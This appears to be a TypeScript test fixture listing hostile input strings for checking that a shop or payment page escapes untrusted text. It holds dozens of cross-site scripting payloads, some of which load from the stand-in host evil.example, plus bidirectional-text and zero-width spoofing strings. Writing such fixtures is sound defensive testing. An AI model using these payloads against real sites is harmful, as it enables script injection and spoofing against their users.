// Texts that try to be more than text: what a shop, a payer or a link could put into a page. Each one
// that came alive would set window.__xss, open a dialog or ask another address.

const RUN = "window.__xss=1";
const ASK = "//evil.example/x";

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=${ASK}></script>`,
  `<script\t>${RUN}</script\n>`,
  `<script/x>${RUN}</script/y>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `<script type=module>import "${ASK}"</script>`,
  `</script><script>${RUN}</script>`,
];

const HANDLERS = [
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}"`,
  `<img/src=x/onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<div onpointerover=${RUN}>x</div>`,
  `<a href=# onclick=${RUN}>x</a>`,
];

const ADDRESSES = [
  `<a href="javascript:${RUN}">x</a>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>">`,
  `<embed src=${ASK}>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<meta http-equiv=refresh content="0;url=${ASK}">`,
  `<base href=${ASK}>`,
  `<link rel=stylesheet href=${ASK}>`,
  `<img src=${ASK}>`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
];

const BREAKOUTS = [
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `\`><script>${RUN}</script>`,
  `" onfocus=${RUN} autofocus x="`,
  `' onfocus=${RUN} autofocus x='`,
  `" autofocus onfocus="${RUN}`,
  `x onerror=${RUN} `,
  `--><script>${RUN}</script><!--`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</noscript><script>${RUN}</script>`,
  `</main></body><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
];

const TEMPLATES = [
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `<%= ${RUN} %>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `&quot; onfocus=${RUN} &quot;`,
  "&amp;&copy;&nbsp;&#0;&#x1F600;&notit;",
  "%3Cscript%3E%00%22%27",
  "$& $1 $` $' \\0 \\u003cscript\\u003e",
];

const IMAGES = [
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<math><mtext><style><img src onerror=${RUN}></style>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<style>@import '${ASK}'</style>`,
  `<p style="background:url(${ASK})">x</p>`,
  `x;background:url(${ASK})}`,
];

const LETTERS = [
  "\u202eexample.knab\u202c \u2066left\u2069",
  "\u200f\u200e\u061c(shop.example)",
  "\u200b\u200c\u200d\ufeff\u2060",
  "\u2028\u2029\u0085line",
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  "\ufffd\u2400\ufdd0",
  "Z\u0351\u036b\u0343\u0348\u0322a\u0321\u0353l\u0332g\u033bo\u0355".repeat(4),
  "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿",
  "W".repeat(100),
  "مرحبا بالعالم שלום",
];

export const HOSTILE_TEXTS: readonly string[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...ADDRESSES,
  ...BREAKOUTS,
  ...TEMPLATES,
  ...IMAGES,
  ...LETTERS,
];
